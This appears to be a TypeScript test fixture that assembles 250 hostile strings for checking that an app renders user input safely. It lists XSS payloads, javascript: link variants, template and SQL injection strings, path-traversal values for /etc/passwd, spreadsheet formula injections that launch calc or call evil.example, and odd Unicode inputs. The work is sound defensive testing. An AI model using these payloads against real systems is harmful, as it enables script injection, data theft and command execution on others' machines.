/** What a stored script would do if it ran: set this, ask somebody else's server, or open a dialog. */
export const mark = "__agizaRan";
const act = `window.${mark}=1`;
const elsewhere = "https://evil.example";

const scripts = [
  `<script>${act}</script>`,
  `<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `"><script>${act}</script>`,
  `'></textarea><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `<script>/*</script><script>*/${act}</script>`,
  `<!--><script>${act}</script>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<math><mtext></table><mglyph><style><img src=x onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<style>@import '${elsewhere}/x.css'; body{display:none}</style>`,
  `<form action=${elsewhere}><button>Lipa</button></form>`,
  `<input autofocus onfocus=${act}>`,
  `<isindex type=image src=1 onerror=${act}>`,
  `<xss id=x tabindex=1 onfocus=${act}></xss>`,
];

const tags = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "details open",
  "marquee",
  "input",
  "a href=x",
];
const handlers = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "onclick",
  "ontoggle",
  "onanimationstart",
  "onstart",
];
const events = tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${act}>`));

const svgs = [
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set onbegin=${act} attributename=href to=x>`,
  `<svg><a xlink:href="javascript:${act}"><text x=20 y=20>Bonyeza</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${act}</script></svg>#x">`,
  `<svg><foreignObject><iframe onload=${act}></foreignObject></svg>`,
  `<svg><image href=${elsewhere}/x.png />`,
  `<svg onload="fetch('${elsewhere}')">`,
];

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "\u0001javascript:",
  "javascript&colon;",
  "vbscript:",
];
const links = schemes.flatMap((scheme) => [
  `${scheme}${act}`,
  `<a href="${scheme}${act}">Bonyeza hapa</a>`,
  `[Bonyeza hapa](${scheme}${act})`,
  `![picha](${scheme}${act})`,
]);
const addresses = [
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `${elsewhere}/?a="onmouseover="${act}`,
  `${elsewhere}\\@agiza.example`,
  `https://agiza.example@evil.example/lipa`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `file:///etc/passwd`,
  `intent://evil.example#Intent;scheme=https;end`,
  `tel:*21*0754000118#`,
];

const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  `\${${act}}`,
  "#{7*7}",
  "<%= 7*7 %>",
  "{name}",
  "{count, plural, other {#}}",
  "{{{name}}}",
  "$t(conversations:title)",
  "$&$1$`$'",
  "%s%n%x%d",
  "%00",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "*_~`bold`~_*",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "# Kichwa\n\n| a | b |\n|---|---|\n| 1 | 2 |",
  "> nukuu\n>> ndani",
  "[audio]",
  "[template]",
  "../../../../etc/passwd",
  "..\\..\\windows\\system32.exe",
  "CON.txt",
  "a'; drop table customers; --",
  "' or '1'='1",
  '"; return true; //',
  "__proto__",
  "constructor",
  "toString",
  "null",
  "undefined",
  "NaN",
  "true",
  "-1",
  "1e999",
];

const formulas = [
  `=HYPERLINK("${elsewhere}","Bonyeza")`,
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  `=IMPORTXML("${elsewhere}","//a")`,
  '=WEBSERVICE("https://evil.example")',
  "|calc",
];

const zalgo = (word: string, height: number) =>
  Array.from(word, (letter) => letter + "\u0301\u0327\u0336\u0489".repeat(height)).join("");
const strange = [
  "\u202Eexe.fdp\u202C.pdf",
  "\u202Etxet neddih",
  "\u2066\u2067\u2068abc",
  "\u200F\u200E\u061C",
  "مرحبا <b>mteja</b> 123",
  "ש\u05B0\u202Dabc",
  zalgo("Halima", 4),
  zalgo("Asante sana", 12),
  zalgo("Z", 200),
  "a\u0000b",
  "\u0000",
  "\u0001\u0002\u0007\u001B[31mnyekundu",
  "\u200B\u200B\u200B",
  "\uFEFF",
  "Ha\u200Bli\u200Cma\u200D\u2060",
  "\u00AD".repeat(60),
  "\uD83D",
  "👩‍👩‍👧‍👦".repeat(60),
  "🇹🇿".repeat(120),
  "﷽".repeat(30),
  "𒐫".repeat(30),
  "W".repeat(5_000),
  "i".repeat(5_000),
  "ﷺ".repeat(1_000),
  "https://".concat("a".repeat(2_000)),
  "\u2003".repeat(400).concat("mwisho"),
  "a\n".repeat(400),
  "-".repeat(1_000),
  "_".repeat(1_000),
  "0".repeat(1_000),
  "m\u0300".repeat(500),
  "\u3000",
  "ᚠ\u1680ᚢ",
  "H̷̛͓͎".repeat(40),
];

const most = 250;

/** 250 texts that somebody may call themselves, write, or name a file by, each a way to break a page. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...scripts,
    ...svgs,
    ...links,
    ...addresses,
    ...templates,
    ...formulas,
    ...strange,
    ...events,
    ...Array.from({ length: most }, (_, place) => `<img src=${elsewhere}/${place}.png onerror=${act}>`),
  ]),
].slice(0, most);
